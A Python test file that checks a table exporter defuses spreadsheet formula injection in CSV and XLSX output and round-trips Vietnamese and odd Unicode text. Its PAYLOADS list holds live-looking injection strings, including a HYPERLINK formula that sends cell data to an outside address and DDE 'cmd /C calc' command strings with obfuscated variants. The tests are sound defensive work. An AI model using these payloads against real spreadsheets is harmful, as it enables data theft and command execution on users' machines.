"""Foreign text through each format: what goes in comes out, and nothing comes alive."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
import zipfile
from datetime import UTC, datetime

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from listings.wording import Wording
from takedowns.tables.catalogue import Format, write_table
from takedowns.tables.defuse import defused, starts_formula, storable
from takedowns.tables.table import Column, Table

PAYLOADS = (
    '=HYPERLINK("http://10.0.0.1/?"&A1,"xem")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋84 900",
    "﹦1+1",
    "\u202e=1+1",
)


def _table(*texts: str) -> Table:
    columns = (Column("text", Wording("Nội dung", "Text")),)
    return Table(Wording("Bảng", "Table"), columns, [{"text": text} for text in texts])


def _written(table: Table, form: Format) -> bytes:
    return b"".join(write_table(table, form, "vi"))


def _csv_cells(content: bytes) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))][1:]


def _xlsx_cells(content: bytes) -> list[object]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return [row[0].value for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_begins_a_csv_cell(payload: str) -> None:
    (cell,) = _csv_cells(_written(_table(payload), "csv"))
    assert cell.startswith("'")
    assert cell[1:] == unicodedata.normalize("NFC", payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_becomes_a_formula_or_link_in_a_workbook(payload: str) -> None:
    content = _written(_table(payload, "https://shop.example/"), "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    assert b"<hyperlink" not in sheet.lower()


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=60), max_size=12))
def test_csv_gives_back_what_went_in(texts: list[str]) -> None:
    cells = _csv_cells(_written(_table(*texts), "csv"))
    expected = [unicodedata.normalize("NFC", text.replace("\x00", "\ufffd")) for text in texts]
    assert cells == [defused(text) for text in expected]
    assert not any(starts_formula(cell) for cell in cells)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=60), max_size=12))
def test_jsonl_gives_back_exactly_what_went_in(texts: list[str]) -> None:
    lines = _written(_table(*texts), "jsonl").split(b"\n")
    assert [json.loads(line.decode("utf-8"))["text"] for line in lines if line] == texts


def test_half_a_surrogate_pair_comes_through_jsonl_as_it_was() -> None:
    assert json.loads(_written(_table("a\ud800b"), "jsonl").decode("utf-8"))["text"] == "a\ud800b"


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=40), min_size=1, max_size=8))
def test_a_workbook_opens_whatever_it_holds(texts: list[str]) -> None:
    cells = _xlsx_cells(_written(_table(*texts), "xlsx"))
    assert len(cells) == len(texts)
    for cell, text in zip(cells, texts, strict=True):
        if text.isalnum() and text.isascii():
            assert cell == text


def test_ids_of_nineteen_digits_stay_text() -> None:
    assert _xlsx_cells(_written(_table("1729384756102938475", "007"), "xlsx")) == ["1729384756102938475", "007"]


def test_text_too_long_for_a_cell_is_cut_visibly() -> None:
    (cell,) = _xlsx_cells(_written(_table("ả" * 40_000), "xlsx"))
    assert str(cell).endswith("JSONL]")
    assert len(str(cell)) <= 32_767


@pytest.mark.parametrize("form", ["xlsx", "csv", "jsonl"])
def test_a_lone_surrogate_stops_no_format(form: Format) -> None:
    assert _written(_table("a\ud800b", "sau"), form)


def test_storable_keeps_vietnamese() -> None:
    assert storable("Thực phẩm bảo vệ sức khỏe\n\x08") == "Thực phẩm bảo vệ sức khỏe\n\ufffd"


def test_times_are_shown_in_vietnams_time_and_kept_in_utc_for_programs() -> None:
    column = Column("at", Wording("Lúc", "At"), "time")
    at = datetime(2026, 5, 15, 18, 30, tzinfo=UTC)
    table = Table(Wording("Bảng", "Table"), (column,), [{"at": at}])
    assert _xlsx_cells(_written(table, "xlsx")) == [datetime.fromisoformat("2026-05-16T01:30")]
    assert _csv_cells(_written(table, "csv")) == ["2026-05-16 01:30:00 (UTC+7)"]
    assert json.loads(_written(table, "jsonl"))["at"] == "2026-05-15T18:30:00Z"


def test_the_second_sheet_says_what_the_workbook_is() -> None:
    about = Wording("Tin nghi vấn.", "Suspected listings.")
    table = Table(Wording("Bảng: 1/2", "Table"), (Column("text", Wording("Nội dung", "Text")),), [], about=(about,))
    book = openpyxl.load_workbook(io.BytesIO(_written(table, "xlsx")))
    assert book.sheetnames == ["Bảng- 1-2", "Thông tin"]
    assert book.worksheets[1]["A1"].value == "Tin nghi vấn."
